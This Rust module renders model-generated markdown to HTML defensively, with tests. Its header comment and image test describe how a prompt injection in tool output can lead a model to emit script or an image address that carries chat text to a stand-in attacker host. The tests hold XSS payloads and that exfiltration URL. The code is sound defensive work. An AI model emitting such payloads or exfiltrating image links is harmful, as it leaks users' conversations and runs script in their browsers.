//! Markdown (GFM) to HTML that is safe to put in the page.
//!
//! Model output is untrusted: it may carry `<script>`, `<img onerror=…>` or `javascript:` links,
//! planted by a prompt injection in a tool's output. Rather than sanitizing HTML after the fact, the
//! parser's events are filtered before rendering, so the only tags in the output are the ones the
//! renderer writes for markdown constructs: raw HTML becomes visible text, and links and images keep
//! their target only when it is http(s), mailto or relative. Code blocks are highlighted (hl-lite: a
//! few tens of KB of WASM, where grammar-based highlighters cost megabytes) and get a copy button.

use pulldown_cmark::{CodeBlockKind, CowStr, Event, Options, Parser, Tag, TagEnd, html};

/// Renders markdown to HTML with every raw-HTML and script vector neutralised.
pub fn render(markdown: &str) -> String {
    let options = Options::ENABLE_TABLES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_GFM
        | Options::ENABLE_DEFINITION_LIST;
    let mut out = String::with_capacity(markdown.len() * 3 / 2);
    html::push_html(
        &mut out,
        SafeEvents { inner: Parser::new_ext(markdown, options), code: None, links: Vec::new(), images: Vec::new() },
    );
    out
}

/// Splits a leading `<think>…</think>` section (models that reason inline) from the answer. An
/// unclosed section is all thinking so far.
pub fn split_think(text: &str) -> (Option<&str>, &str) {
    let trimmed = text.trim_start();
    let Some(rest) = trimmed.strip_prefix("<think>") else { return (None, text) };
    match rest.find("</think>") {
        Some(end) => (Some(rest[..end].trim()), rest[end + "</think>".len()..].trim_start()),
        None => (Some(rest.trim()), ""),
    }
}

/// True for link targets that cannot run code: http(s), mailto, fragments and relative paths.
pub fn is_safe_url(url: &str) -> bool {
    // Browsers ignore ASCII whitespace and control characters inside a scheme ("java\tscript:").
    let cleaned: String = url.chars().filter(|c| !c.is_ascii_whitespace() && !c.is_ascii_control()).collect();
    let scheme_end = cleaned.find(':');
    let path_start = cleaned.find(['/', '?', '#']);
    match (scheme_end, path_start) {
        (Some(colon), Some(slash)) if slash < colon => true,
        (Some(colon), _) => {
            let scheme = cleaned[..colon].to_ascii_lowercase();
            matches!(scheme.as_str(), "http" | "https" | "mailto")
        }
        (None, _) => true,
    }
}

struct SafeEvents<I> {
    inner: I,
    /// Inside a fenced or indented code block: its language and the text so far.
    code: Option<(String, String)>,
    /// For each open link: whether it was kept (its closing tag must match).
    links: Vec<bool>,
    /// For each open image: how it ends (an image, a link to it, or just its alt text).
    images: Vec<ImageAs>,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum ImageAs {
    Image,
    Link,
    Text,
}

/// An image the page may load itself: from this origin (a relative path) or inline (`data:image/…`).
/// Anything else would be fetched from elsewhere the moment the answer renders, carrying whatever
/// a prompt injection put in its address: such images become links the user may choose to open.
pub fn is_local_image(url: &str) -> bool {
    let url = url.trim();
    let lower = url.to_ascii_lowercase();
    if lower.starts_with("data:image/") {
        return !lower.starts_with("data:image/svg");
    }
    !url.starts_with("//") && !url.contains('\\') && !url.contains(':') && is_safe_url(url)
}

impl<'a, I: Iterator<Item = Event<'a>>> Iterator for SafeEvents<I> {
    type Item = Event<'a>;

    fn next(&mut self) -> Option<Event<'a>> {
        loop {
            let event = self.inner.next()?;
            if let Some((_, code)) = &mut self.code {
                match event {
                    Event::Text(text) => code.push_str(&text),
                    Event::End(TagEnd::CodeBlock) => {
                        let (lang, code) = self.code.take().unwrap_or_default();
                        return Some(Event::Html(CowStr::from(code_block(&lang, &code))));
                    }
                    _ => {}
                }
                continue;
            }
            return Some(match event {
                // Raw HTML is shown, never interpreted.
                Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
                Event::Start(Tag::CodeBlock(kind)) => {
                    let lang = match kind {
                        CodeBlockKind::Fenced(info) => info.split_whitespace().next().unwrap_or("").to_string(),
                        CodeBlockKind::Indented => String::new(),
                    };
                    self.code = Some((lang, String::new()));
                    continue;
                }
                Event::Start(Tag::Link { dest_url, title, .. }) => {
                    let keep = is_safe_url(&dest_url);
                    self.links.push(keep);
                    if !keep {
                        continue;
                    }
                    let mut tag = String::from("<a href=\"");
                    escape_into(&mut tag, &dest_url);
                    tag.push('"');
                    if !title.is_empty() {
                        tag.push_str(" title=\"");
                        escape_into(&mut tag, &title);
                        tag.push('"');
                    }
                    tag.push_str(" target=\"_blank\" rel=\"noopener noreferrer nofollow\">");
                    Event::Html(CowStr::from(tag))
                }
                Event::End(TagEnd::Link) => {
                    if self.links.pop().unwrap_or(false) {
                        Event::Html(CowStr::Borrowed("</a>"))
                    } else {
                        continue;
                    }
                }
                Event::Start(Tag::Image { link_type, dest_url, title, id }) => {
                    if is_local_image(&dest_url) {
                        self.images.push(ImageAs::Image);
                        Event::Start(Tag::Image { link_type, dest_url, title, id })
                    } else if is_safe_url(&dest_url) {
                        self.images.push(ImageAs::Link);
                        let mut tag = String::from("<a class=\"external-image\" href=\"");
                        escape_into(&mut tag, &dest_url);
                        tag.push_str(
                            "\" target=\"_blank\" rel=\"noopener noreferrer nofollow\" title=\"An image elsewhere: \
                                      open it if you trust ",
                        );
                        escape_into(&mut tag, &dest_url);
                        tag.push_str("\">🖼 ");
                        Event::Html(CowStr::from(tag))
                    } else {
                        self.images.push(ImageAs::Text);
                        continue;
                    }
                }
                Event::End(TagEnd::Image) => match self.images.pop().unwrap_or(ImageAs::Text) {
                    ImageAs::Image => Event::End(TagEnd::Image),
                    ImageAs::Link => Event::Html(CowStr::Borrowed("</a>")),
                    ImageAs::Text => continue,
                },
                other => other,
            });
        }
    }
}

/// A highlighted code block with its language label and a copy button (wired up by the page).
fn code_block(lang: &str, code: &str) -> String {
    let mut out = String::with_capacity(code.len() * 2 + 200);
    out.push_str("<div class=\"code-block\"><div class=\"code-head\"><span class=\"code-lang\">");
    escape_into(&mut out, if lang.is_empty() { "text" } else { lang });
    out.push_str("</span><button type=\"button\" class=\"copy-code\" aria-label=\"Copy code\">Copy</button></div>");
    out.push_str("<pre><code>");
    match hl_lite::Lang::from_slug(lang) {
        Some(language) => {
            for span in hl_lite::highlight(language, code) {
                let class = span.kind.class();
                if class == "plain" {
                    escape_into(&mut out, span.text);
                } else {
                    out.push_str("<span class=\"hl-");
                    out.push_str(class);
                    out.push_str("\">");
                    escape_into(&mut out, span.text);
                    out.push_str("</span>");
                }
            }
        }
        None => escape_into(&mut out, code),
    }
    out.push_str("</code></pre></div>");
    out
}

fn escape_into(out: &mut String, text: &str) {
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn gfm_renders() {
        let html = render("# Title\n\n**bold** ~~gone~~\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n");
        assert!(html.contains("<h1>Title</h1>"), "{html}");
        assert!(html.contains("<strong>bold</strong>"));
        assert!(html.contains("<del>gone</del>"));
        assert!(html.contains("<table>"));
        assert!(html.contains("type=\"checkbox\""));
    }

    #[test]
    fn raw_html_is_text_never_markup() {
        for attack in [
            "<img src=x onerror=alert(1)>",
            "<script>alert(1)</script>",
            "hello <b onmouseover=alert(1)>x</b>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<svg><script>alert(1)</script></svg>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<details open ontoggle=alert(1)>",
        ] {
            let html = render(attack);
            for tag in ["<img", "<script", "<b ", "<iframe", "<svg", "<a ", "<details"] {
                assert!(!html.contains(tag), "{attack} rendered {html}");
            }
            assert!(html.contains("&lt;"), "{attack} should be visible text: {html}");
        }
    }

    #[test]
    fn unsafe_link_targets_are_dropped_but_their_text_stays() {
        for url in [
            "javascript:alert(1)",
            "JAVASCRIPT:alert(1)",
            "java\tscript:alert(1)",
            " javascript:x",
            "data:text/html,x",
            "vbscript:x",
        ] {
            let html = render(&format!("[click me](<{url}>)"));
            assert!(!html.contains("<a "), "{url}: {html}");
            assert!(html.contains("click me"), "{url}: {html}");
        }
        let html = render("![pic](javascript:alert(1))");
        assert!(!html.contains("javascript"), "{html}");
    }

    #[test]
    fn safe_links_open_in_a_new_tab() {
        let html = render("[docs](https://example.com/a?b=\"c\") and [here](#x) and <https://auto.link>");
        assert!(html.contains("<a href=\"https://example.com/a?b=&quot;c&quot;\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">docs</a>"), "{html}");
        assert!(html.contains("href=\"#x\""));
        assert!(html.contains("href=\"https://auto.link\""));
        assert!(is_safe_url("/relative/path:with-colon"));
        assert!(is_safe_url("mailto:a@b.c"));
        assert!(!is_safe_url("file:///etc/passwd"));
    }

    #[test]
    fn code_blocks_are_highlighted_escaped_and_copyable() {
        let html = render("```rust\nlet x = \"<b>\";\n```\n");
        assert!(html.contains("class=\"code-lang\">rust<"), "{html}");
        assert!(html.contains("<span class=\"hl-keyword\">let</span>"), "{html}");
        assert!(html.contains("&lt;b&gt;"));
        assert!(!html.contains("<b>"));
        assert!(html.contains("class=\"copy-code\""));
        // Unknown language: escaped, not highlighted. Unclosed fence while streaming: still a block.
        let html = render("```klingon\n<x>\n```");
        assert!(html.contains("&lt;x&gt;") && !html.contains("hl-"), "{html}");
        let html = render("```python\ndef f(");
        assert!(html.contains("code-block") && html.contains("hl-keyword"), "{html}");
    }

    #[test]
    fn images_from_elsewhere_become_links_the_user_chooses_to_open() {
        // The favourite of prompt injections: the chat's text in an image address.
        let html = render("Done. ![x](https://attacker.example/?d=secret+chat+text)");
        assert!(!html.contains("<img"), "{html}");
        assert!(
            html.contains("<a class=\"external-image\" href=\"https://attacker.example/?d=secret+chat+text\"")
                && html.contains("rel=\"noopener noreferrer nofollow\"")
                && html.contains("🖼 x</a>"),
            "{html}"
        );
        for remote in
            ["//attacker.example/x.png", "\\\\attacker.example\\x.png", "http://a/x.png", "data:image/svg+xml,<svg/>"]
        {
            assert!(!render(&format!("![a]({remote})")).contains("<img"), "{remote}");
        }
        // The app's own images and inline data still show.
        assert!(render("![logo](/favicon.ico)").contains("<img src=\"/favicon.ico\" alt=\"logo\""));
        assert!(render("![dot](data:image/png;base64,iVBORw0KGgo=)").contains("<img src=\"data:image/png"));
        // A script address is neither loaded nor linked.
        let html = render("![alt](javascript:alert(1))");
        assert!(!html.contains("<img") && !html.contains("<a") && html.contains("alt"), "{html}");
    }

    #[test]
    fn think_sections_are_split_off() {
        assert_eq!(split_think("<think>hmm</think>\n\nAnswer"), (Some("hmm"), "Answer"));
        assert_eq!(split_think("<think>still going"), (Some("still going"), ""));
        assert_eq!(split_think("No thinking"), (None, "No thinking"));
    }
}
